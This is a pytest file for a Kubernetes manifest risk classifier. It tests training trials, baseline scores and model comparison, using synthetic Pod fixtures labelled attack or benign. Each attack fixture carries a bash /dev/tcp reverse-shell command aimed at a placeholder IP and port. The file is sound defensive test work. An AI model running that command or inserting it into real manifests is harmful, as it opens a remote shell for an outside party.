"""What is measured on manifests themselves, and models next to each other."""

from itertools import pairwise
from typing import Any

import pytest

from policies import config
from policies.risk import classifier
from policies.risk.classifier import Classifier, ModelError
from policies.risk.training import compare, fit, trials
from policies.risk.training.dataset import of_corpus
from policies.risk.training.disguise import DISGUISES


def line(number: int, *, attack: bool) -> dict[str, Any]:
    shell = {"command": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"], "image": "ubuntu"}
    container = {"name": "a", **(shell if attack else {"image": f"ghcr.io/acme/service:{number}"})}
    return {
        "object": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, "spec": {"containers": [container]}},
        "origin_class": "attack" if attack else "benign-app",
        "cluster": f"c{number}",
        "family": "reverse-shell" if attack else None,
        "source": {"repo": f"r/{number}", "commit": "0123456789abcdef", "path": "a.yaml", "license": "MIT"},
    }


LINES = [line(number, attack=number % 2 == 0) for number in range(24)]
ROWS = [row for each in LINES for row in of_corpus([each])]


def test_trials(monkeypatch: pytest.MonkeyPatch) -> None:
    said: list[tuple[int, int]] = []
    found = trials.run(LINES, ROWS, "sha256:x", lambda done, whole: said.append((done, whole)))

    assert found.dataset == "sha256:x"
    assert found.origins[0] == trials.Origin("r/0", "0123456789ab", "MIT")
    assert [each.name for each in found.disguises] == list(DISGUISES)
    assert found.disguises[0].all == (1.0, 1.0)
    assert [each.name for each in found.baseline] == ["all"]
    assert found.baseline[0].auc == 0.5  # nothing in them is against the baseline level
    assert said[-1] == (fit.FOLDS * fit.REPEATS,) * 2
    assert all(later[0] == earlier[0] + 1 for earlier, later in pairwise(said))


def test_they_need_no_model_that_fits_the_features(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever changes the features makes the data set first, and only then a model."""

    def refused() -> Classifier:
        raise ModelError("made for other features")

    for module in (classifier, config):
        monkeypatch.setattr(module, "shipped", refused)
    assert trials.run(LINES, ROWS, "sha256:x").baseline


def test_contenders_are_measured_in_the_same_way(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fit, "boosted", fit.logistic)
    monkeypatch.setitem(compare.FITTINGS, compare.BOOSTED, (fit.logistic, list))
    found = list(compare.contenders(ROWS))

    assert [each.name for each in found] == list(compare.FITTINGS)
    assert found[0].slices == found[1].slices
    assert all(each.slices[0].name == "all" for each in found)
